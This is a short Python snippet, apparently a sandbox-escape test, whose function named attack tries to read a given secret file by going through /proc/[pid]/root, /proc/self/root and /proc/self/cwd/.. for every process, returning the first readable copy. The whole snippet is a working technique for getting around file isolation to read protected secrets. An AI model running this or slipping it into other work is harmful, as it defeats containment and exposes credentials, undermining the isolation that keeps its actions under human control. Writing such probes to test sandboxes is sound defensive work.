# Reads through descriptors of every process.
import glob


def attack(secret_path):
    roots = glob.glob("/proc/[0-9]*/root") + ["/proc/self/root", "/proc/self/cwd/.."]
    for root in roots:
        try:
            with open(root + secret_path) as file:
                return file.read()
        except OSError:
            pass
    raise ValueError("none")
